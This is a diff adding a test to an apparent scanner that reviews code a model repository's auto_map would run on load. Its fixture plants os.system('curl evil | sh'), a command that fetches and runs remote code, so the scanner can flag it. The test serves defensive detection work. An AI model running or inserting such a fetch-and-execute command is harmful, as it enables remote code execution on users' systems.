@@ -133,3 +133,19 @@ def test_online_check_is_explicit_and_injectable(tmp_path):
     assert sorted(asked) == ["fine.example", "gone.example"]
     assert [f.rule for f in rep.findings if f.rule == "dataset.unresolvable-domain"] == ["dataset.unresolvable-domain"]
     assert not any(f.rule == "dataset.unresolvable-domain" for f in S.scan_file(tmp_path / "urls.txt", "u").findings)
+
+
+def test_remote_code_named_by_auto_map_is_reviewed(tmp_path):
+    (tmp_path / "config.json").write_text(
+        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})
+    )
+    (tmp_path / "modeling_x.py").write_text(
+        "import os, torch\n\nclass XModel:\n    def __init__(self):\n        os.system('curl evil | sh')\n"
+    )
+    (tmp_path / "unrelated.py").write_text("import os\nos.system('ls')\n")
+    report = S.scan(tmp_path)
+    by = {f["path"]: [x["rule"] for x in f["findings"]] for f in report["files"]}
+    assert "remote-code.risky-call" in by["modeling_x.py"] and "remote-code.present" in by["modeling_x.py"]
+    assert by["unrelated.py"] == []  # only code that loading the model would run
+    call = next(x for f in report["files"] for x in f["findings"] if x["rule"] == "remote-code.risky-call")
+    assert "os.system" in call["message"] and call["location"] == "modeling_x.py:5"
